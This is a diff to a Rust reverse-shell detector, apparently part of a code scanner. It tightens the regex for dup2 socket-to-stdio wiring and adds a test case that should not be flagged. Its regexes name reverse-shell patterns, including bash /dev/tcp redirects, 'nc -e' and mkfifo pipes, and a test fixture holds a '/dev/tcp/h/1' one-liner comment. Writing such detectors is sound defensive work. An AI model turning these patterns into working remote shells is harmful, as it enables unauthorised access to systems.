@@ -26,7 +26,7 @@ static CONNECT: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r"\.connect\s*\(|socket\.create_connection\s*\(").expect("connect")
 });
 static WIRE: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(r#"\bos\.dup2\s*\(\s*\w+\.fileno\(\)|\bdup2\s*\(\s*\w+\.fileno\(\)|\bpty\.spawn\s*\(|subprocess\.(?:call|Popen|run)\s*\(\s*\[?\s*['"](?:/bin/)?(?:sh|bash|zsh|cmd(?:\.exe)?|powershell(?:\.exe)?)['"][^)]*std(?:in|out)\s*=\s*\w+"#).expect("wire")
+    Regex::new(r#"\b(?:os\.)?dup2\s*\(\s*\w+\.fileno\(\)\s*,\s*(?:[012]|sys\.std(?:in|out|err)\.fileno\(\))\s*\)|\bpty\.spawn\s*\(|subprocess\.(?:call|Popen|run)\s*\(\s*\[?\s*['"](?:/bin/)?(?:sh|bash|zsh|cmd(?:\.exe)?|powershell(?:\.exe)?)['"][^)]*std(?:in|out)\s*=\s*\w+"#).expect("wire")
 });
 static ONE_LINER: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r"(?i)(?:\b(?:ba)?sh\s+-i\s*>&\s*/dev/(?:tcp|udp)/|/dev/tcp/[\w.-]+/\d+|\bnc(?:at)?(?:\.exe)?\s+(?:[\w.-]+\s+\d+\s+)?-e\s+(?:/bin/)?(?:ba)?sh|\bnc(?:at)?\s+-e\s+cmd|mkfifo\s+/tmp/\w+\s*;\s*(?:cat|nc)|0<&\d+;\s*exec\s+\d+<>/dev/tcp)").expect("one-liner")
@@ -168,6 +168,13 @@ mod tests {
                     "pkg/a.py",
                     Runtime,
                     "# bash -i >& /dev/tcp/h/1\nx = 1\n",
+                    None,
+                ),
+                (
+                    "dup2 onto other fds with a socket",
+                    "pkg/sel.py",
+                    Runtime,
+                    "s.connect(a)\nos.dup2(rd.fileno(), r)\n",
                     None,
                 ),
             ],
